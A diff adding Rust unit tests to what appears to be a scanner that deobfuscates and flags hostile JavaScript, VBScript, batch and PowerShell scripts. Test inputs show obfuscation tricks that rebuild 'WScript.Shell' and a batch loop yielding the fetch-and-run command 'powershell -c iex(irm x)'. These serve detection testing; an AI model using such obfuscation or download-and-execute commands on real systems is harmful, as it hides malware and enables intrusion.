@@ -59,6 +59,13 @@ fn pieces_become_texts() {
         ("a.js", "var l = ['ht', 'tp', '://x']; y = l[0] + l[1] + l[2];", "http://x"),
         ("a.js", "x = atob('aHR0cDovL2EuZXhhbXBsZQ==') + '/';", "http://a.example/"),
         ("a.js", "x = 'abc' /* 'n' */ + // 'm'\n 'def';", "abcdef"),
+        (
+            "a.js",
+            "var t = 'WZScZrZipZt'; eval(f(t, 'Z')); function f(a, b) { return a.split(b).join(''); }",
+            "WScript",
+        ),
+        ("a.js", "var l = ['WSc', -81], m = [-4, 'ript']; x = l[0] + m[1];", "WScript"),
+        ("a.js", "var l = [3, WScript, 'Shell'][2]; x = 'WScript.' + l;", "WScript.Shell"),
         ("a.vbs", "x = \"WScr\" & \"ipt\" & Chr(46) & _\r\n \"Shell\"", "WScript.Shell"),
         ("a.vbs", "x = x & \"po\"\nx = x & \"wer\"\nX = x & \"shell\"", "powershell"),
         ("a.vbs", "y = StrReverse(\"llehs\") ' no", "shell"),
@@ -160,4 +167,54 @@ fn hostile_sources_end() {
     }
     let doubling = "a = 'xxxxxxxxxxxxxxxx';".to_string() + &"a = a + a + a;".repeat(200);
     assert!(read("a.js", &doubling).0.len() <= LONGEST_TEXTS + 1024);
+}
+
+#[test]
+fn texts_under_functions_of_the_script_are_undone() {
+    let hidden = "WScript.Shell";
+    let codes = |by: u32, end: &str| {
+        hidden.chars().map(|c| format!("({}).y(){end}", u32::from(c) ^ by)).collect::<Vec<_>>().join("")
+    };
+    let methods = format!(
+        "Number.prototype.y = function () {{ return String.fromCharCode(this ^ 91); }}; var w = {}'';",
+        codes(91, " + ")
+    );
+    assert!(read("a.js", &methods).0.contains(hidden), "{methods}");
+    let pairs: String = hidden.chars().map(|c| radix(u32::from(c) + 11)).collect();
+    let comment = format!(
+        "var f = function () {{/*\n{pairs}\n*/}}; var s = f.toString().split('/*')[1], o = '';\n\
+         for (var i = 0; i < s.length; i += 2) {{ o += String.fromCharCode(parseInt(s.substr(i, 2), 36) - 11); }}"
+    );
+    assert!(read("a.js", &comment).0.contains(hidden), "{comment}");
+    assert!(read("a.js", "new ActiveXObject(q(\"llehS.tpircSW\"));").0.contains(hidden));
+}
+
+/// A number in two digits of base 36.
+fn radix(code: u32) -> String {
+    [code / 36, code % 36].iter().filter_map(|digit| char::from_digit(*digit, 36)).collect()
+}
+
+#[test]
+fn what_batch_files_write_and_unroll_is_read() {
+    let written = "@echo off\r\n(echo one\r\necho two\r\necho three)>a.txt\r\n";
+    assert!(read("a.bat", written).0.contains("one\ntwo\nthree"));
+    let looped = "for /f \"tokens=1,2 delims=|\" %%a in (\"power|shell -c iex(irm x)\") do (%%a%%b)\r\n";
+    assert!(read("a.bat", looped).0.contains("powershell -c iex(irm x)"));
+}
+
+#[test]
+fn programs_that_run_text_after_text_hide_it_and_libraries_of_pages_do_not() {
+    let runs = "Execute(a(1))\nExecute(a(2))\nx = Eval(a(3))\nExecuteGlobal a(4)\n";
+    assert!(signs("a.vbs", runs).contains(&Sign::ChoppedText));
+    assert!(!signs("a.vbs", "ExecuteGlobal f.ReadAll\n").contains(&Sign::ChoppedText));
+    let library =
+        "if (window.x) { r = new ActiveXObject('Microsoft.XMLHTTP'); } q.exec(b.slice(1, 0)); eval(c);";
+    assert!(!signs("a.js", library).contains(&Sign::ComputedObject));
+    assert!(!signs("a.js", library).contains(&Sign::HiddenWindow));
+    let shell = "if (window.x) { r = new ActiveXObject('WScript.Shell'); } eval(c);";
+    assert!(signs("a.js", shell).contains(&Sign::ComputedObject));
+    let listed = "var k = 'Get-Item|Start-BitsTransfer|Start-Process|Set-Item';";
+    assert!(!signs("a.js", listed).contains(&Sign::ProcessStart));
+    assert!(signs("a.ps1", "Invoke-Expression $a").contains(&Sign::Decoding));
+    assert!(!signs("a.ps1", "Invoke-Expression \"& `\"$NODE`\" $ARGS\"").contains(&Sign::Decoding));
 }
